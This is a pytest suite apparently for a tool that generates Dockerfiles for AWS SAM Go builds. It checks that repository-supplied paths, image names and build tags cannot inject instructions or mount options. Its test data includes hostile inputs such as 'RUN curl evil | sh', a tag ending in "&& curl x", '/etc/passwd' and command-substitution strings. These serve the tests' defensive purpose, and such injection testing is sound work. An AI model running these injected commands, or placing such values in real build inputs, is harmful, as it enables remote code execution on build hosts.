"""The Dockerfile of ``migrate --sam-build``: what it says, and that nothing from the repository
becomes an instruction, a flag, a glob, a variable or another mount option."""

from __future__ import annotations

import re

import pytest

from shimimg.errors import ShimimgError
from shimimg.gobuild.gocmd import FLAGS
from shimimg.image.samdockerfile import Batch, Spec, read_inputs, render, safe_path


def spec(**changes) -> Spec:
    base = dict(code_uri="./", go_image="public.ecr.aws/docker/library/golang:1.26",
                base_image="public.ecr.aws/lambda/provided:al2", goarch="arm64", tags="lambda.norpc,prod",
                flags=FLAGS, shim=".shimimg/sam-build/orders/bootstrap", module=".",
                batches=(Batch((("cmd/create_order", "create_order", ("bin/create_order",)),
                                ("cmd/get", "get", ("bin/get_order", "bin/get_order_v2")))),
                         Batch((("tools/create_order", "create_order", ("bin/create_order_tool",)),))),
                data=(("config/rates.json", "config/rates.json", 0o644),), inputs={"code_uri": "./"})
    base.update(changes)
    return Spec(**base)


def test_the_go_stage_runs_on_the_build_platform_and_cross_compiles_with_shimimgs_flags():
    text = render(spec())
    assert "FROM --platform=$BUILDPLATFORM public.ecr.aws/docker/library/golang:1.26 AS build" in text
    assert "GOOS=linux GOARCH=arm64 CGO_ENABLED=0" in text
    assert "--mount=type=cache,id=shimimg-go-mod,target=/go-mod-cache" in text
    assert "--mount=type=cache,id=shimimg-go-build,target=/go-build-cache" in text
    # One go build per batch (two mains named create_order cannot share one -o folder).
    assert ("go build -o /out/go-0/ -tags lambda.norpc,prod -buildvcs=false -trimpath -ldflags '-s -w -buildid=' "
            "-- ./cmd/create_order ./cmd/get") in text
    assert "go build -o /out/go-1/ -tags lambda.norpc,prod" in text and "-- ./tools/create_order" in text
    # A handler named unlike its main's folder, and two handlers of one main, are written out.
    assert "cp /out/go-0/get /out/h2/var/task/bin/get_order" in text
    assert "cp /out/go-0/get /out/h3/var/task/bin/get_order_v2" in text
    assert "cp /out/go-1/create_order /out/h1/var/task/bin/create_order_tool" in text
    assert "find /out -exec touch -h -d @946684800 {} +" in text


def test_the_final_stage_copies_one_linked_layer_per_binary_onto_the_base():
    text = render(spec())
    final = text.split("\nFROM public.ecr.aws/lambda/provided:al2\n", 1)[1].splitlines()
    assert final[0] == "COPY --link --from=build /out/shim/ /"
    assert final[1] == "COPY --link --from=build /out/data/ /"
    assert final[2:] == [f"COPY --link --from=build /out/h{i}/ /" for i in range(4)]
    assert "COPY --chmod=755 .shimimg/sam-build/orders/bootstrap /out/shim/var/runtime/bootstrap" in text
    assert "COPY --chmod=644 config/rates.json /out/data/var/task/config/rates.json" in text
    assert not any(line.startswith("RUN") for line in final)  # nothing runs emulated
    # No "# syntax=" line: the engine's built-in frontend needs no image pull.
    assert not text.startswith("# syntax")


def test_the_inputs_read_back_and_other_dockerfiles_are_not_ours():
    assert read_inputs(render(spec(inputs={"code_uri": "a\nFROM evil", "handlers": ["bin/x"]}))) == {
        "code_uri": "a\nFROM evil", "handlers": ["bin/x"]}
    assert read_inputs("FROM scratch\nCOPY x /\n") is None


def test_the_code_uri_in_the_header_cannot_start_an_instruction():
    text = render(spec(code_uri='x"\nRUN curl evil | sh\n#'))
    assert not any(line.startswith("RUN curl") for line in text.splitlines())


@pytest.mark.parametrize("bad", [
    "../outside", "/etc/passwd", "a/../../b", "-flag", "a b", "a\nRUN x", "x,source=/", "c*", "a?b", "[ab]",
    "$HOME", "${X}", "a\\b", "a;b", "a'b", 'a"b', "", ".", "a//b", "`id`", "a=b",
])
def test_hostile_paths_are_refused_wherever_they_would_go(bad):
    places = [
        dict(shim=bad),
        dict(module=bad),
        dict(binds=(bad,)),
        dict(batches=(Batch(((bad, "x", ("bin/x",)),)),)),
        dict(batches=(Batch((("cmd/x", bad, ("bin/x",)),)),)),
        dict(batches=(Batch((("cmd/x", "x", (bad,)),)),)),
        dict(data=((bad, "x", 0o644),)),
        dict(data=(("x", bad, 0o644),)),
        dict(zip=bad, unzip="u.go"),
    ]
    # "." names the module root where a folder is meant; "" means no module, no zip.
    dot_ok = {"module", "binds", "batches0"} if bad == "." else {"module", "zip"} if bad == "" else set()
    for change in places:
        key = next(iter(change)) + ("0" if "batches" in change and change["batches"][0].mains[0][0] == bad else "")
        if key in dot_ok:
            continue
        with pytest.raises(ShimimgError, match="cannot be written into a Dockerfile"):
            render(spec(**change))


@pytest.mark.parametrize("ref", ["golang:1.26\nRUN x", "-golang", "golang 1.26", "GOLANG:1", "a@sha256:zz"])
def test_image_references_are_checked(ref):
    with pytest.raises(ShimimgError, match="is not an image reference"):
        render(spec(go_image=ref))
    with pytest.raises(ShimimgError, match="is not an image reference"):
        render(spec(base_image=ref))


def test_tags_with_other_characters_are_refused():
    with pytest.raises(ShimimgError, match="build tags"):
        render(spec(tags="lambda.norpc' && curl x"))


def test_a_zip_is_extracted_in_the_build_stage_and_its_members_copied():
    text = render(spec(module="", batches=(), zip="dist/functions.zip", unzip=".shimimg/sam-build/x/unzip.go",
                       files=(("bin/greeter", "bin/greeter", 0o755),),
                       data=(("config/rates.json", "config/rates.json", 0o644),)))
    assert "--mount=type=bind,source=dist/functions.zip,target=/in/package.zip" in text
    assert "go run /in/unzip.go /in/package.zip /out/zip" in text
    assert "cp /out/zip/bin/greeter /out/h0/var/task/bin/greeter" in text
    assert "chmod 644 /out/data/var/task/config/rates.json" in text
    assert "go build" not in text


def test_safe_paths_pass_unchanged():
    for ok in ("cmd/create_order", ".shimimg/sam-build/x/Dockerfile", "a-b/c_d/e.f+g@h", "v2"):
        assert safe_path(ok, "x") == ok
    assert re.fullmatch(r"\.", safe_path("./", "x", allow_dot=True))


def many(n: int, **changes) -> Spec:
    mains = tuple((f"cmd/h{i:03d}", f"h{i:03d}", (f"bin/h{i:03d}",)) for i in range(n))
    return spec(batches=(Batch(mains),), data=(), **changes)


def binary_layers(text: str) -> list[set[str]]:
    """Each /out/h<n> folder's binaries, in the final stage's order."""
    filled: dict[str, set[str]] = {}
    for folder, binary in re.findall(r"cp /out/go-\d+/\S+ /out/(h\d+)/var/task/(\S+)", text):
        filled.setdefault(folder, set()).add(binary)
    order = re.findall(r"^COPY --link --from=build /out/(h\d+)/ /$", text, re.M)
    return [filled[f] for f in order]


def test_past_100_binaries_share_at_most_100_layers_of_at_most_ceil_n_over_100():
    text = render(many(130))
    layers = binary_layers(text)
    assert len(layers) == 100 and max(len(layer) for layer in layers) == 2
    assert sorted(b for layer in layers for b in layer) == [f"bin/h{i:03d}" for i in range(130)]


def test_adding_a_handler_past_100_moves_one_layer_from_the_recorded_layout():
    from shimimg.image import buckets

    layout = buckets.assign([f"bin/h{i:03d}" for i in range(130)])
    old = {frozenset(x) for x in binary_layers(render(many(130, layers=layout)))}
    after = many(131, layers=layout)
    new = {frozenset(x) for x in binary_layers(render(after))}
    assert len(new - old) == 1 and len(old - new) <= 1


def test_migrate_keeps_the_layout_its_last_dockerfile_recorded_and_ignores_a_bad_record(tmp_path):
    from shimimg.commands.sambuild import _keep_layout

    dockerfile = tmp_path / "Dockerfile"
    first = _keep_layout(many(130), dockerfile)
    assert "layers" in first.inputs
    dockerfile.write_text(render(first))
    # Rewritten from its own output: the same text (idempotent), and one more handler moves one layer.
    assert render(_keep_layout(many(130), dockerfile)) == render(first)
    old = {frozenset(x) for x in binary_layers(render(first))}
    new = {frozenset(x) for x in binary_layers(render(_keep_layout(many(131), dockerfile)))}
    assert len(new - old) == 1
    # The file is the repository's: a record naming buckets out of range is not used.
    dockerfile.write_text(render(many(130, inputs={"layers": {"format": 1, "buckets": 100,
                                                                "assignment": {"bin/h000": 999}}})))
    assert _keep_layout(many(130), dockerfile).layers == first.layers
    # Up to 100 binaries nothing is recorded: each has its own layer whatever the numbering.
    assert "layers" not in _keep_layout(many(100), tmp_path / "none").inputs
